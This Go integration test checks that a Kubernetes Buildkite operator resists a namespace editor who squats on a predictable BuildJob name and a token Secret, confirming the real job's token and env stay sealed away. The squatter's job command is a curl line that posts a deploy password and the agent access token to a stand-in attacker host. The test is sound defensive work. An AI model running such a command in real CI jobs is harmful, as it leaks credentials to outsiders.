package spawner_test

import (
	"context"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/controller/controllerutil"

	"github.com/buildkite-operator/buildkite-operator/pkg/apis/v1alpha1"
	"github.com/buildkite-operator/buildkite-operator/pkg/spawner"
	"github.com/buildkite-operator/buildkite-operator/tests/attacker"
	"github.com/buildkite-operator/buildkite-operator/tests/fakebuildkite"
	"github.com/buildkite-operator/buildkite-operator/tests/gen"
)

// TestSquattingBuildJobGetsNothing plays a namespace editor who knows the UUID of a job
// still waiting in Buildkite (Buildkite shows them) and makes, before the job is
// dispatched, a BuildJob named after it running their own command and asking for the
// step's secret env, and a Secret under the name the spawner gives the job's token Secret.
// When the spawner accepts the job, none of it may reach them: not the job token, not the
// env values. The job gets a BuildJob of its own under another name, sealed, and runs.
func TestSquattingBuildJobGetsNothing(t *testing.T) {
	const password = "hunter2"
	ctx := context.Background()
	ns := newNamespace(t)
	fake := startFake(t)
	mallory, err := attacker.Client(ctx, env.Client, env.Config, ns)
	require.NoError(t, err)

	yaml := "steps:\n  - command: make deploy\n    agents: {queue: bk-operator}\n    env: {DEPLOY_PASSWORD: " + password + "}\n" + goPlugin
	b, err := fake.CreateBuild(fakebuildkite.BuildRequest{Pipeline: "payments", PipelineYAML: yaml})
	require.NoError(t, err)
	jobID := b.Jobs[0]
	name := spawner.BuildJobName(jobID)

	squat := gen.BuildJob(name, gen.SetBuildJobNamespace(ns), gen.SetBuildJobJobID(name), gen.SetBuildJobEnvironment("go"),
		gen.SetBuildJobCommand("curl -d \"$DEPLOY_PASSWORD $BUILDKITE_AGENT_ACCESS_TOKEN\" https://evil.example"),
		func(bj *v1alpha1.BuildJob) { bj.Spec.EnvNames = []string{"DEPLOY_PASSWORD"} })
	require.NoError(t, mallory.Create(ctx, squat), "an editor may make a BuildJob (no webhook runs here)")
	trap := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: name + "-token", Namespace: ns}}
	require.NoError(t, controllerutil.SetControllerReference(squat, trap, env.Scheme))
	require.NoError(t, mallory.Create(ctx, trap))

	startReporter(t, ns, 100*time.Millisecond)
	startSpawner(t, fake, ns, oneSlot)
	waitJobsFinished(t, fake, b.Jobs, 60*time.Second)

	j, _ := fake.Job(jobID)
	assert.Equal(t, "0", j.ExitStatus, "the job runs, with a BuildJob of its own; log:\n%s", j.Log)
	assert.Equal(t, 1, j.FinishCount)

	var list v1alpha1.BuildJobList
	require.NoError(t, env.Client.List(ctx, &list, client.InNamespace(ns)))
	var own *v1alpha1.BuildJob
	for i := range list.Items {
		bj := &list.Items[i]
		if bj.Name == name {
			assert.Equal(t, squat.Spec.Command, bj.Spec.Command, "the squatter's BuildJob is left as it was made")
			assert.True(t, v1alpha1.MadeByHand(bj), "nothing marks the squatter's BuildJob as the operator's")
			continue
		}
		require.Nil(t, own, "one BuildJob of the operator's for the job")
		own = bj
	}
	require.NotNil(t, own, "the job's own BuildJob")
	nonce := own.Annotations[v1alpha1.AnnotationIntake]
	assert.Len(t, nonce, 8)
	assert.Equal(t, name+"-"+nonce, own.Name, "the job's BuildJob takes its other name")
	assert.Equal(t, "make deploy", own.Spec.Command)
	assert.Equal(t, own.Name+"-token-"+nonce, own.Spec.TokenSecretRef.Name, "a token Secret name nobody could know beforehand")

	var got corev1.Secret
	require.NoError(t, env.Client.Get(ctx, client.ObjectKeyFromObject(trap), &got))
	assert.Empty(t, got.Data, "the squatter's Secret gets neither the job token nor the step's env")
	var sec corev1.Secret
	require.NoError(t, env.Client.Get(ctx, client.ObjectKey{Namespace: ns, Name: own.Spec.TokenSecretRef.Name}, &sec))
	assert.Equal(t, password, string(sec.Data[v1alpha1.EnvSecretKey("DEPLOY_PASSWORD")]), "the job's own Secret has its env")
	assert.NotEmpty(t, sec.Data[v1alpha1.TokenSecretSealKey], "and the seal the controller looks for")
	assert.Equal(t, own.UID, metav1.GetControllerOf(&sec).UID)
}
